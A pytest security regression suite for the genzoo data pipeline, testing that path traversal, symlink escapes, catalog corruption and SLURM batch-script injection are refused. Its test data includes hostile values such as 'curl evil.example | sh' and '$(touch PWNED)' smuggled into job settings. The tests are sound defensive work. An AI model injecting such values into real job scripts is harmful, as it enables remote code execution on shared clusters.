"""The second hostile round (issue 27): each test is one attack that succeeded on the code before
it, driven through the entry point the attacker used (the `genzoo` command, the catalog refresh
the `catalog` asset runs, the exports, the SLURM executor's settings, the pool-slot housekeeping
every `genzoo` command runs). A data directory here is what a lab downloads from another: its
Parquet files are written by hand, not by the stages.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import dagster as dg
import numpy as np
import pandas as pd
import pytest
from dagster._core.test_utils import create_run_for_test

from genzoo_assets.app import cli
from genzoo_assets.core import paths
from genzoo_assets.core.body.io import load_body_model
from genzoo_assets.core.catalog import refresh as catalog_refresh
from genzoo_assets.core.catalog.query import query
from genzoo_assets.core.catalog.refresh import refresh_catalog
from genzoo_assets.core.catalog.store import CATALOG_NAME, LOCK_NAME, CatalogQueryError
from genzoo_assets.core.dataset import webdataset
from genzoo_assets.core.processes import process_identity
from genzoo_assets.core.tables import write_table_atomic
from genzoo_assets.defs import pool_slots
from genzoo_assets.slurm import jobs
from genzoo_assets.slurm.executor import pool_requests, tag_request
from genzoo_assets_tests.core.dataset.conftest import SPECIES, make_catalog_rows
from genzoo_assets_tests.core.regressor.smal_topology import write_smal_topology_model

pytestmark = pytest.mark.slow  # CLI runs, Dagster materialisations, subprocesses (~2 min in all)

REPO = Path(__file__).resolve().parents[2]
TABLES = {
    "shape_params": ["betas", "shape_backend"],
    "pose_params": [
        "global_orient",
        "body_pose",
        "transl",
        "camera_model",
        "resolution",
        "fov_deg",
        "cam_scale",
        "cam_tx",
        "cam_ty",
        "keypoints_3d",
        "keypoints_2d",
        "keypoints_vis",
        "bbox",
        "pose_backend",
    ],
    "control_renders": ["mask_path", "mask_area"],
    "captions": ["caption"],
    "prompts": ["provenance"],
    "images": ["image_path", "flagged", "generator"],
}
KEYS = ["sample_id", "species", "shard", "index"]


# --- a downloaded data directory ----------------------------------------------------------------


@pytest.fixture(scope="module")
def smal41_file(tmp_path_factory) -> Path:
    return write_smal_topology_model(tmp_path_factory.mktemp("smal41") / "smal41.pkl", num_betas=41)


@pytest.fixture(scope="module")
def smal41(smal41_file):
    return load_body_model(smal41_file)


def _species_table(root: Path) -> None:
    rows = [
        {
            "key": key,
            "scientific_name": key.replace("_", " ").capitalize(),
            "common_name": key,
            "order": "Carnivora",
            "family": family,
            "genus": key.split("_")[0].capitalize(),
            "is_dog": False,
        }
        for key, family in SPECIES.items()
    ]
    write_table_atomic(pd.DataFrame(rows), root / "species" / "species.parquet")


def write_tables(root: Path, rows: pd.DataFrame, shard: str = "000") -> None:
    """The six per-sample tables of ``rows``, one file per species and table."""
    for table, cols in TABLES.items():
        for sp, part in rows.groupby("species"):
            write_table_atomic(
                part[KEYS + cols].reset_index(drop=True), root / table / sp / f"{shard}.parquet"
            )


@pytest.fixture
def world(tmp_path, smal41, monkeypatch):
    """(data dir, its rows): 3 species × 2 samples with images and masks, catalogued."""
    root = tmp_path / "data"
    rows = make_catalog_rows(smal41, root, per_species=2).drop(columns=["family"])
    _species_table(root)
    write_tables(root, rows)
    refresh_catalog(root)
    home = tmp_path / "dagster_home"
    home.mkdir()
    shutil.copyfile(REPO / "dagster.yaml", home / "dagster.yaml")
    monkeypatch.setenv("DAGSTER_HOME", str(home))
    monkeypatch.setenv(paths.DATA_DIR_ENV, str(root))
    return root, rows


def genzoo(capsys, *argv: str) -> tuple[int, str, str]:
    """`genzoo ARGV` in this process: (exit status, stdout, stderr)."""
    capsys.readouterr()
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def files_under(folder: Path) -> dict[str, bytes]:
    """Every data file below ``folder`` (lock files, which hold nothing, left out)."""
    return {
        str(p.relative_to(folder)): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not p.is_symlink() and not p.name.endswith(".lock")
    }


def count(sql: str, root: Path) -> int:
    return int(query(sql, root).iloc[0, 0])


# --- 1. escapes ---------------------------------------------------------------------------------


def test_a_sample_id_that_climbs_out_is_refused_by_export_animal3d(
    world, tmp_path, capsys, smal41_file
):
    root, rows = world
    evil = "../../../../elsewhere/ESCAPED"
    rows = rows.copy()
    rows.loc[rows.index[0], "sample_id"] = evil  # in all six tables
    write_tables(root, rows[rows["species"] == rows["species"].iloc[0]])
    refresh_catalog(root)
    out = tmp_path / "deep" / "a" / "b" / "animal3d"
    code, _, err = genzoo(capsys, "export", "animal3d", str(out), "--body-model", str(smal41_file))
    assert code == 2 and err.count("\n") == 1, err
    assert evil in err and "column sample_id" in err
    assert not list(tmp_path.rglob("ESCAPED*")) and not out.exists()


@pytest.mark.parametrize("exporter", ["hf", "animal3d"])
def test_a_mask_path_outside_the_data_dir_is_never_exported(
    world, tmp_path, capsys, smal41_file, exporter
):
    root, rows = world
    secret = tmp_path / "elsewhere" / "secret.png"
    secret.parent.mkdir()
    secret.write_bytes(b"\x89PNG-THE-SECRET")
    rows = rows.copy()
    rows.loc[rows.index[0], "mask_path"] = str(secret)
    write_tables(root, rows[rows["species"] == rows["species"].iloc[0]])
    refresh_catalog(root)
    out = tmp_path / "out"
    code, _, err = genzoo(capsys, "export", exporter, str(out), "--body-model", str(smal41_file))
    assert code == 2 and err.count("\n") == 1, err
    assert rows["sample_id"].iloc[0] in err and "column mask_path" in err and str(secret) in err
    assert not out.exists()


def test_an_image_path_with_dotdot_is_refused_by_the_shard_export(world, tmp_path):
    root, rows = world
    outside = tmp_path / "elsewhere.jpg"
    shutil.copyfile(root / rows["image_path"].iloc[0], outside)
    rows = rows.assign(family="Canidae")
    rows.loc[rows.index[1], "image_path"] = "images/../../elsewhere.jpg"
    with pytest.raises(
        paths.PathEscapeError, match="column image_path holds 'images/../../elsewhere.jpg'"
    ):
        webdataset.export_shards(rows, root, root / "shards")
    assert not (root / "shards" / "current").exists()


def test_a_parquet_symlink_out_of_the_data_dir_is_not_catalogued(world, tmp_path):
    root, rows = world
    outside = tmp_path / "elsewhere"
    foreign = rows.iloc[:1].assign(sample_id="foreign.000.00000", shard="001")
    write_table_atomic(
        foreign[KEYS + TABLES["shape_params"]], outside / "canis_lupus" / "001.parquet"
    )
    sp = rows["species"].iloc[0]
    os.symlink(outside / "canis_lupus" / "001.parquet", root / "shape_params" / sp / "001.parquet")
    os.symlink(outside / "canis_lupus", root / "shape_params" / "lynx_lynx")  # a folder too
    refresh_catalog(root, full=True)
    assert count("SELECT count(*) FROM shape_params WHERE sample_id LIKE 'foreign%'", root) == 0


# --- 2. the catalog never wedges ------------------------------------------------------------------

DIE_AT_CHECKPOINT = """
import os, sys
from genzoo_assets.core.catalog import refresh as c
update = c._update
class Dying:
    def __init__(self, con): self.con = con
    def execute(self, sql, *args):
        if sql.startswith("CHECKPOINT"):
            os._exit(9)  # after COMMIT, before CHECKPOINT: the WAL stays
        return self.con.execute(sql, *args)
    def __getattr__(self, name): return getattr(self.con, name)
c._update = lambda con, root, full=False: update(Dying(con), root, full)
c.refresh_catalog(sys.argv[1])
"""


def _kill_after_commit(root: Path, rows: pd.DataFrame) -> None:
    """Rewrite one partition, then SIGKILL an in-place refresh between COMMIT and CHECKPOINT."""
    sp = rows["species"].iloc[0]
    part = rows[rows["species"] == sp]
    write_table_atomic(
        part[KEYS + TABLES["captions"]].assign(caption="rewritten"),
        root / "captions" / sp / "000.parquet",
    )
    done = subprocess.run([sys.executable, "-c", DIE_AT_CHECKPOINT, str(root)], timeout=300)
    assert done.returncode == 9
    assert (root / f"{CATALOG_NAME}.wal").exists()  # the attack's precondition


def test_a_refresh_killed_before_its_checkpoint_never_wedges_the_full_refresh(world, capsys):
    root, rows = world
    _kill_after_commit(root, rows)
    code, _, err = genzoo(capsys, "catalog", "refresh", "--full")
    assert code == 0, err
    assert not (root / f"{CATALOG_NAME}.wal").exists()
    code, out, err = genzoo(capsys, "catalog", "sql", "SELECT count(*) AS n FROM samples")
    assert code == 0 and out.split()[-1] == str(len(rows)), err
    code, _, err = genzoo(capsys, "catalog", "refresh")
    assert code == 0, err


def test_a_refresh_behind_a_long_reader_never_wedges_the_catalog(world, monkeypatch):
    root, rows = world
    _kill_after_commit(root, rows)
    monkeypatch.setattr(catalog_refresh, "WRITE_WAIT_S", 0.2)
    with paths.file_lock(root / LOCK_NAME, shared=True):  # a streaming reader past WRITE_WAIT_S
        refresh_catalog(root)
    assert not (root / f"{CATALOG_NAME}.wal").exists()
    assert count("SELECT count(*) FROM captions WHERE caption = 'rewritten'", root) == 2
    refresh_catalog(root)


def test_a_foreign_wal_beside_the_catalog_is_rebuilt_without_help(world, tmp_path):
    root, rows = world
    other = tmp_path / "other"
    _species_table(other)
    write_tables(other, rows.iloc[:2])
    refresh_catalog(other)
    _kill_after_commit(other, rows.iloc[:2])
    shutil.copyfile(other / f"{CATALOG_NAME}.wal", root / f"{CATALOG_NAME}.wal")
    with pytest.raises(CatalogQueryError, match="`genzoo catalog refresh` rebuilds it"):
        query("SELECT count(*) FROM samples", root)
    refresh_catalog(root)
    assert count("SELECT count(*) FROM samples", root) == len(rows)


MDD_HEADER = "sciName,mainCommonName,superorder,order,family,extinct,domestic\n"


def test_import_mdd_with_one_bad_row_leaves_every_file_as_it_was(world, tmp_path, capsys):
    root, _ = world
    csv = tmp_path / "mdd.csv"
    csv.write_text(
        MDD_HEADER
        + "Panthera_leo,Lion,Laurasiatheria,Carnivora,Felidae,0,0\n"
        + "Ursus_arctos2,Brown Bear,Laurasiatheria,Carnivora,Ursidae,0,0\n"
    )
    before = files_under(root / "species")
    code, _, err = genzoo(capsys, "species", "import-mdd", str(csv), "--no-materialize")
    assert code == 2 and err.count("\n") == 1, err
    assert str(csv) in err and "Ursus arctos2" in err
    assert files_under(root / "species") == before
    code, _, err = genzoo(capsys, "species", "add", "Ursus arctos", "--no-materialize")
    assert code == 0, err


def test_a_symlinked_export_folder_never_fails_an_export_and_is_never_followed(world, tmp_path):
    root, rows = world
    target = tmp_path / "precious"
    (target / "keep").mkdir(parents=True)
    (target / "keep" / "data.bin").write_bytes(b"mine")
    (root / "shards").mkdir()
    os.symlink(target, root / "shards" / "export-evil")
    os.symlink(target, root / "shards" / ".export-evil")
    webdataset.export_shards(rows.assign(family="Canidae"), root, root / "shards")
    assert (target / "keep" / "data.bin").read_bytes() == b"mine"
    assert (root / "shards" / "export-evil").is_symlink()


# --- 3. the catalog holds exactly the files' rows -------------------------------------------------


def test_glob_characters_in_folder_and_file_names_are_read_literally(world):
    root, rows = world
    one = rows[rows["species"] == rows["species"].iloc[0]].iloc[:1]
    for table, cols in TABLES.items():
        write_table_atomic(
            one[KEYS + cols].assign(sample_id="star.000.00000", shard="000"),
            root / table / "*" / "000.parquet",
        )
        write_table_atomic(
            one[KEYS + cols].assign(sample_id="star.001.00000", shard="*"),
            root / table / "lynx-lynx" / "*.parquet",
        )
        write_table_atomic(
            one[KEYS + cols].assign(sample_id="star.002.00000", shard="[0]"),
            root / table / "lynx-lynx" / "[0].parquet",
        )
    refresh_catalog(root)
    assert count("SELECT count(*) FROM images", root) == len(rows) + 3
    assert count("SELECT count(*) FROM samples", root) == len(rows) + 3
    refresh_catalog(root, full=True)
    assert count("SELECT count(DISTINCT sample_id) - count(*) FROM samples", root) == 0


@pytest.mark.parametrize("where", ["within-a-file", "across-partitions"])
def test_a_duplicate_sample_id_is_refused_with_its_files_named(world, where):
    root, rows = world
    sp = rows["species"].iloc[0]
    part = rows[rows["species"] == sp]
    shape = root / "shape_params" / sp
    if where == "within-a-file":
        dup = pd.concat([part, part.iloc[:1]])[KEYS + TABLES["shape_params"]]
        write_table_atomic(dup.reset_index(drop=True), shape / "000.parquet")
        named = [shape / "000.parquet"]
    else:
        write_table_atomic(
            part[KEYS + TABLES["shape_params"]].assign(shard="001"), shape / "001.parquet"
        )
        named = [shape / "000.parquet", shape / "001.parquet"]
    with pytest.raises(CatalogQueryError, match="is held by") as exc:
        refresh_catalog(root)
    assert part["sample_id"].iloc[0] in str(exc.value)
    assert all(str(f) in str(exc.value) for f in named)
    assert count("SELECT count(*) FROM samples", root) == len(rows)  # the previous catalog
    with pytest.raises(CatalogQueryError, match="is held by"):
        refresh_catalog(root, full=True)


@pytest.mark.parametrize("full", [False, True])
def test_a_partition_with_another_column_type_is_refused_never_widened(world, monkeypatch, full):
    root, rows = world
    monkeypatch.setattr(catalog_refresh, "BATCH_PARTITIONS", 1)  # a batched full refresh
    sp = rows["species"].iloc[-1]
    odd = root / "pose_params" / sp / "000.parquet"
    part = rows[rows["species"] == sp][KEYS + TABLES["pose_params"]]
    write_table_atomic(part.assign(fov_deg="forty"), odd)
    with pytest.raises(CatalogQueryError) as exc:
        refresh_catalog(root, full=full)
    assert f"{odd}: column 'fov_deg' is string, but double" in str(exc.value)
    assert "\n" not in str(exc.value)
    assert query("SELECT DISTINCT typeof(fov_deg) AS t FROM samples", root)["t"].tolist() == [
        "DOUBLE"
    ]


def test_concurrent_refreshes_under_a_renaming_writer_never_fail(world):
    """A stage rewrites a big partition again and again (atomic renames) while two refreshes run:
    a file listed, then replaced before DuckDB read it, failed refreshes with "Invalid data" /
    "don't know what type"."""
    root, rows = world
    n = 2000
    target = root / "captions" / "zz" / "000.parquet"

    def version(i: int) -> pd.DataFrame:
        return pd.DataFrame(
            {
                "sample_id": [f"zz.000.{k:05d}" for k in range(n)],
                "species": "zz",
                "shard": "000",
                "index": range(n),
                "caption": [f"v{i}-{k}" * 20 for k in range(n)],
                "x": np.random.default_rng(i).random(n),
            }
        )

    write_table_atomic(version(0), target)
    write_table_atomic(version(0), root / "shape_params" / "zz" / "000.parquet")
    refresh_catalog(root)
    stop, errors = threading.Event(), []

    def writer():
        i = 0
        while not stop.is_set():
            i += 1
            write_table_atomic(version(i), target)

    def refresher():
        for _ in range(15):
            try:
                refresh_catalog(root)
            except Exception as exc:  # noqa: BLE001 - every failure is the finding
                errors.append(exc)

    threads = [threading.Thread(target=writer)]
    threads += [threading.Thread(target=refresher) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads[1:]:
        t.join()
    stop.set()
    threads[0].join()
    assert errors == []
    refresh_catalog(root)
    assert count("SELECT count(*) FROM samples", root) == len(rows) + n


# --- 5. liveness ---------------------------------------------------------------------------------


@pytest.fixture
def sleeper():
    proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
    yield proc
    proc.kill()
    proc.wait()


def _dead_pid() -> int:
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


def _project_instance(home: Path) -> dg.DagsterInstance:
    return dg.DagsterInstance.from_config(str(home))


def _claimed_run(instance, tags: dict) -> str:
    instance.event_log_storage.set_concurrency_slots("gpu", 1)
    run_id = create_run_for_test(instance, status=dg.DagsterRunStatus.STARTED, tags=tags).run_id
    assert instance.event_log_storage.claim_concurrency_slot("gpu", run_id, "regressor").is_claimed
    return run_id


def _still_holds(instance, run_id: str) -> bool:
    held = instance.event_log_storage.get_concurrency_info("gpu").claimed_slots
    status = instance.get_run_by_id(run_id).status
    return [s.run_id for s in held] == [run_id] and status == dg.DagsterRunStatus.STARTED


OPEN_INSTANCE = "from genzoo_assets.app.instance import project_instance; project_instance()"


def test_a_command_in_another_pid_namespace_never_fails_a_live_run(world, sleeper):
    if shutil.which("unshare") is None:
        pytest.skip("no unshare here")
    home = Path(os.environ["DAGSTER_HOME"])
    instance = _project_instance(home)
    try:
        run_id = _claimed_run(
            instance,
            pool_slots.own_tags()
            | {
                pool_slots.PID_TAG: str(sleeper.pid),
                pool_slots.WORKER_TAG: process_identity(sleeper.pid),
            },
        )
        probe = ["unshare", "--pid", "--fork", "--mount-proc", "--map-root-user"]
        if subprocess.run([*probe, "true"], capture_output=True).returncode != 0:
            pytest.skip("unprivileged PID namespaces are not allowed here")
        done = subprocess.run(
            [*probe, sys.executable, "-c", OPEN_INSTANCE],
            cwd=REPO,
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert done.returncode == 0, done.stderr[-2000:]
        assert _still_holds(instance, run_id), done.stderr
    finally:
        instance.dispose()


def test_a_run_without_the_worker_tag_is_left_alone_and_the_waiting_run_says_why(world):
    home = Path(os.environ["DAGSTER_HOME"])
    instance = _project_instance(home)
    try:
        ui_run = _claimed_run(instance, {})  # launched from the web UI: no genzoo tags
        instance.report_dagster_event(
            dg.DagsterEvent("PIPELINE_START", "__ASSET_JOB", pid=_dead_pid()), ui_run
        )
        waiting = create_run_for_test(instance, status=dg.DagsterRunStatus.STARTED).run_id
        assert not instance.event_log_storage.claim_concurrency_slot(
            "gpu", waiting, "images"
        ).is_claimed
        assert pool_slots.free_dead_slots(instance, say=lambda _: None) == []
        assert _still_holds(instance, ui_run)
        line = pool_slots.report_waiting(instance)[waiting][0]
        assert "left alone" in line and pool_slots.WORKER_TAG in line
    finally:
        instance.dispose()


def test_an_orphaned_step_process_keeps_its_slot_after_its_worker_dies(world, sleeper):
    home = Path(os.environ["DAGSTER_HOME"])
    instance = _project_instance(home)
    try:
        dead = _dead_pid()
        here = process_identity().split("/")
        run_id = _claimed_run(
            instance,
            {
                pool_slots.HOST_TAG: socket.gethostname(),
                pool_slots.PID_TAG: str(dead),
                pool_slots.WORKER_TAG: f"{here[0]}/{here[1]}/{dead}/1",
            },
        )
        instance.report_dagster_event(
            dg.DagsterEvent("STEP_START", "__ASSET_JOB", step_key="regressor", pid=sleeper.pid),
            run_id,
        )
        assert pool_slots.free_dead_slots(instance, say=lambda _: None) == []
        assert _still_holds(instance, run_id)
        sleeper.kill()
        sleeper.wait()
        said = []
        assert len(pool_slots.free_dead_slots(instance, say=said.append)) == 1
        assert "is gone" in said[0]
    finally:
        instance.dispose()


# --- 6. exports readers can rely on ---------------------------------------------------------------


def _export(root: Path, rows: pd.DataFrame) -> dict:
    return webdataset.export_shards(rows.assign(family="Canidae"), root, root / "shards")


def test_a_pinned_export_outlives_any_number_of_exports_and_the_newest_three_stay(world, capsys):
    root, rows = world
    first = Path(_export(root, rows)["export_dir"])
    pinned = Path(os.path.realpath(root / "shards" / "current"))  # the README's readlink -f
    assert pinned == first
    code, out, err = genzoo(capsys, "export", "keep", pinned.name)
    assert code == 0 and "pinned" in out, err
    made = [Path(_export(root, rows)["export_dir"]) for _ in range(webdataset.KEEP_LAST + 1)]
    with open(pinned / "train-000000.tar", "rb") as shard:  # the trainer reads on
        assert shard.read(10)
    exports = sorted(p.name for p in (root / "shards").iterdir() if p.name.startswith("export-"))
    assert exports == sorted([pinned.name, *(p.name for p in made[-webdataset.KEEP_LAST :])])
    code, _, err = genzoo(capsys, "export", "keep", pinned.name, "--release")
    assert code == 0, err
    _export(root, rows)
    assert not pinned.exists()
    code, _, err = genzoo(capsys, "export", "keep", "export-nope")
    assert code == 2 and "no export 'export-nope'" in err


def test_a_truncated_current_manifest_never_lets_current_dangle(world, monkeypatch):
    root, rows = world
    first = Path(_export(root, rows)["export_dir"])
    manifest = first / webdataset.MANIFEST
    manifest.write_text(manifest.read_text()[:40])  # truncated
    write = webdataset._write_shard
    dangling = []

    def watching(*args):
        dangling.append(not (root / "shards" / "current").resolve().is_dir())
        return write(*args)

    monkeypatch.setattr(webdataset, "_write_shard", watching)
    for _ in range(webdataset.KEEP_LAST + 1):
        _export(root, rows)
    assert dangling and not any(dangling)
    assert (root / "shards" / "current").resolve().is_dir()


# --- 7. no injection into batch scripts -----------------------------------------------------------

EVIL = "gpu\ncurl evil.example | sh"


@pytest.mark.parametrize(
    ("attack", "key"),
    [
        (lambda: pool_requests({"gpu": {"partition": EVIL}}), "pools.gpu: partition="),
        (
            lambda: pool_requests({"gpu": {"extra_args": ["--constraint=a100", EVIL]}}),
            "extra_args=",
        ),
        (lambda: tag_request({"genzoo/slurm": '{"qos": "high\\nid"}'}, "regressor"), "qos="),
        (
            lambda: jobs.batch_script(
                "genzoo\nid-1234-regressor",
                jobs.JobRequest(),
                Path("o"),
                Path("e"),
                Path("."),
                [],
                {},
                ["true"],
            ),
            "job_name",
        ),
        (
            lambda: jobs.batch_script(
                "genzoo-1",
                jobs.JobRequest(gres="gpu:1 --wrap=id"),
                Path("o"),
                Path("e"),
                Path("."),
                [],
                {},
                ["true"],
            ),
            "option=",
        ),
    ],
    ids=["partition", "extra_args", "op-tag", "job_name_prefix", "spaced-value"],
)
def test_a_slurm_value_that_is_not_a_plain_token_is_refused_naming_its_key(attack, key):
    with pytest.raises(ValueError) as exc:
        attack()
    assert key in str(exc.value) and "\n" not in str(exc.value)


def test_environment_values_and_the_command_stay_quoted(tmp_path):
    hostile = "a\n$(touch PWNED)\n`touch PWNED`; touch PWNED"
    script = jobs.batch_script(
        "genzoo-1",
        jobs.JobRequest(partition="gpu"),
        Path("o"),
        Path("e"),
        Path("."),
        [],
        {"GENZOO_X": hostile},
        ["printf", "%s|%s", hostile, "$GENZOO_X"],
    )
    (tmp_path / "job.sbatch").write_text(script)
    done = subprocess.run(
        ["bash", "job.sbatch"], cwd=tmp_path, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout == f"{hostile}|$GENZOO_X" and not (tmp_path / "PWNED").exists()


# --- 8. leftovers swept ---------------------------------------------------------------------------


def test_a_killed_full_rebuilds_temporary_catalog_and_its_wal_are_swept(world):
    root, _ = world
    host = socket.gethostname()
    dead = root / f".{CATALOG_NAME}~{host}~{_dead_pid()}~0000.tmp"
    live = root / f".{CATALOG_NAME}~{host}~{os.getpid()}~0000.tmp"
    for path in (dead, live):
        path.write_bytes(b"half")
        Path(f"{path}.wal").write_bytes(b"x" * 1000)
    refresh_catalog(root)
    assert not dead.exists() and not Path(f"{dead}.wal").exists()
    assert live.exists() and Path(f"{live}.wal").exists()  # a live writer's are never touched
